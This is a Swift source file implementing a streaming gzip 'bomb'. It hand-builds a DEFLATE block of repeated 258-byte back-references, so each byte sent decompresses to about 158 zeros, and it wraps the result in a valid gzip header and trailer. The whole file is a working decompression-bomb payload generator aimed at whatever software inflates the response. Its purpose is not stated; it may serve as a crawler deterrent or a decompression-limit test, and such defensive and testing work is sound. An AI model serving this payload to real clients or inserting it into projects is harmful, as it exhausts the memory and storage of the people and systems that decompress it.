import NIOCore

/// A gzip whose content is zeros, 158 of them for each byte sent, made as it goes.
///
/// One block with the fixed code (RFC 1951 3.2.6): a literal zero, then copies of 258 bytes from distance 1, each 13
/// bits. Eight copies are 104 bits, which is 13 bytes whatever the bit they start at: after the first round the
/// stream repeats itself, and needs no coder.
struct GzipBomb {
  /// Zeros in one round of eight copies.
  private static let zerosInRound = 8 * 258
  private static let roundsInPiece = 4096

  /// How many bytes the content has: what was asked for, rounded up to whole rounds, and the literal.
  let decodedLength: Int

  private let rounds: Int
  private let beginning: ByteBuffer
  /// Many rounds, of which each begins with the last 3 bits of the one before.
  private let piece: ByteBuffer
  private let ending: ByteBuffer

  init(atLeast bytes: Int) {
    rounds = max(1, (bytes + Self.zerosInRound - 1) / Self.zerosInRound)
    decodedLength = rounds * Self.zerosInRound + 1

    var bits = BitWriter()
    bits.write([1, 1, 0])  // the last block; the fixed code
    bits.write([0, 0, 1, 1, 0, 0, 0, 0])  // literal 0
    for _ in 0..<16 {
      bits.write([1, 1, 0, 0, 0, 1, 0, 1])  // code 285: 258 bytes
      bits.write([0, 0, 0, 0, 0])  // distance 1
    }
    // 11 bits stand before the first round, so it ends 3 bits into byte 14, and the second 3 bits into byte 27.
    beginning = ByteBuffer(bytes: Deflate.gzipHeader + bits.bytes[..<14])
    let round = Array(bits.bytes[14..<27])
    piece = ByteBuffer(bytes: (0..<Self.roundsInPiece).flatMap { _ in round })

    var last = BitWriter()
    last.write([0, 0, 0])  // the last 3 bits of the last copy
    last.write([0, 0, 0, 0, 0, 0, 0])  // end of block
    ending = ByteBuffer(
      bytes: last.bytes + Deflate.gzipTrailer(crc: Checksums.crc32(ofZeros: decodedLength), length: decodedLength))
  }

  /// The stream, in pieces of some 50 kB.
  var steps: Steps {
    var left = rounds - 1
    var begun = false
    var ended = false
    return Steps {
      if !begun {
        begun = true
        return .send(beginning)
      }
      if left > 0 {
        let count = min(left, Self.roundsInPiece)
        left -= count
        return piece.getSlice(at: 0, length: count * 13).map(Step.send)
      }
      if ended { return nil }
      ended = true
      return .send(ending)
    }
  }
}

/// Bits in the order of RFC 1951 3.1.1: each byte is filled from its lowest bit.
private struct BitWriter {
  private(set) var bytes: [UInt8] = []
  private var count = 0

  mutating func write(_ bits: [UInt8]) {
    for bit in bits {
      if count.isMultiple(of: 8) { bytes.append(0) }
      bytes[bytes.count - 1] |= bit << UInt8(count % 8)
      count += 1
    }
  }
}
